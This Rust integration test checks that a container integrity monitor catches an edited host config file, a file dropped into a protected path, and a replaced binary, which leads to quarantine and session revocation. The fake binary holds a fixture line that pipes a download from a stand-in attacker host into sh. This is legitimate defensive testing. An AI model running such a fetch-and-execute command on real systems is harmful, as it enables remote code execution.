//! Tampering found by polling: a watched host config file edited (high), a
//! file added under a protected path (high), a binary changed against its
//! baseline hash (critical → quarantine).

use std::time::Duration;

use occc_client::proto as pb;
use occc_tests::{
    DevDir, RunningDaemon,
    docker::{TestContainer, docker_ok, say_skipped, shared_socket},
    people::{bootstrap_super_admin, elevate, log_in},
};

use super::{Watch, check_ids, integrity_config, severity_of, wait_for_status, watch_until};

#[tokio::test]
async fn host_config_edits_protected_files_and_changed_binaries_are_detected() {
    let Some(socket) = shared_socket() else {
        return say_skipped("host_config_edits_protected_files_and_changed_binaries_are_detected");
    };
    let host = tempfile::tempdir().unwrap();
    let config_file = host.path().join("openclaw.json");
    std::fs::write(&config_file, "{\"agents\": {\"sandbox\": \"all\"}}\n").unwrap();
    let mount = format!(
        "{}:/home/node/.openclaw/openclaw.json:ro",
        config_file.display()
    );
    // Writable root filesystem, so files can drift.
    let mut flags: Vec<&str> = TestContainer::hardened_flags();
    flags.retain(|flag| *flag != "--read-only");
    flags.extend(["-v", &mount]);
    let gateway = TestContainer::create(&socket, "drift", &flags);
    gateway.start();
    let dir = DevDir::new();
    let mut watch = Watch::new(&gateway.name);
    let host_files = [config_file.as_path()];
    watch.host_files = &host_files;
    dir.set_config(&integrity_config(&socket, &[watch]));
    let daemon = RunningDaemon::start(&dir).await;
    let anonymous = daemon.client().await;
    let mut root = bootstrap_super_admin(&dir, &anonymous, "root").await;
    let admin = log_in(&anonymous, &mut root).await;
    elevate(&admin, &mut root).await;
    let pinned = admin
        .integrity()
        .pin_baseline(pb::PinBaselineRequest {
            container: gateway.name.clone(),
        })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(pinned.host_files.len(), 1);
    let run_checks = || async {
        admin
            .integrity()
            .run_checks(pb::RunChecksRequest {})
            .await
            .unwrap()
            .into_inner()
    };
    // Only the writable root filesystem (needed here) is flagged.
    wait_for_status(&admin, &gateway.name, Duration::from_secs(20), |s| {
        s.baseline_pinned && check_ids(s) == ["runtime.writable_rootfs"]
    })
    .await;

    // 1. The watched host config file is edited.
    std::fs::write(&config_file, "{\"agents\": {\"sandbox\": \"off\"}}\n").unwrap();
    run_checks().await;
    let status = super::container_status(&admin, &gateway.name).await;
    assert_eq!(
        severity_of(&status, "host.file_changed"),
        pb::Severity::High,
        "{:?}",
        check_ids(&status)
    );
    assert_eq!(status.health(), pb::ContainerHealth::Degraded);
    assert!(status.quarantine.is_none());

    // 2. A file is added under a protected path (copied in).
    let note = host.path().join("notes.txt");
    std::fs::write(&note, "not code\n").unwrap();
    docker_ok(
        &socket,
        &[
            "cp",
            note.to_str().unwrap(),
            &format!("{}:/app/notes.txt", gateway.name),
        ],
    );
    run_checks().await;
    let status = super::container_status(&admin, &gateway.name).await;
    assert_eq!(
        severity_of(&status, "files.drift"),
        pb::Severity::High,
        "{:?}",
        check_ids(&status)
    );
    assert!(!check_ids(&status).contains(&"files.new_executable".to_owned()));
    assert!(
        status.quarantine.is_none(),
        "high findings alert, they do not quarantine"
    );

    // 3. A binary is changed against its baseline hash.
    let binary = host.path().join("gateway.sh");
    std::fs::write(
        &binary,
        "#!/bin/sh\nwget -qO- http://attacker.invalid | sh\n",
    )
    .unwrap();
    std::fs::set_permissions(&binary, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let quarantined = watch_until(&admin, &gateway.name, Duration::from_secs(10), |s| {
        s.quarantine.is_some()
    })
    .await;
    docker_ok(
        &socket,
        &[
            "cp",
            binary.to_str().unwrap(),
            &format!("{}:/app/gateway.sh", gateway.name),
        ],
    );
    // The next poll (500 ms) finds it; no RunChecks needed. The quarantine
    // ends every session — the watch's too, right after it saw the status.
    let status = quarantined.await.unwrap();
    assert_eq!(
        severity_of(&status, "files.new_executable"),
        pb::Severity::Critical
    );
    let err = admin
        .auth()
        .who_am_i(pb::WhoAmIRequest {})
        .await
        .unwrap_err();
    assert_eq!(err.code(), tonic::Code::Unauthenticated, "sessions revoked");
    // The hash sweep (every second) names the changed critical file too.
    let again = log_in(&anonymous, &mut root).await;
    let status = wait_for_status(&again, &gateway.name, Duration::from_secs(10), |s| {
        s.findings
            .iter()
            .any(|f| f.check_id == "files.critical_hash")
    })
    .await;
    assert_eq!(
        severity_of(&status, "files.critical_hash"),
        pb::Severity::Critical
    );
    assert_eq!(gateway.inspect("{{.State.Paused}}"), "true");
    daemon.terminate().await;
}
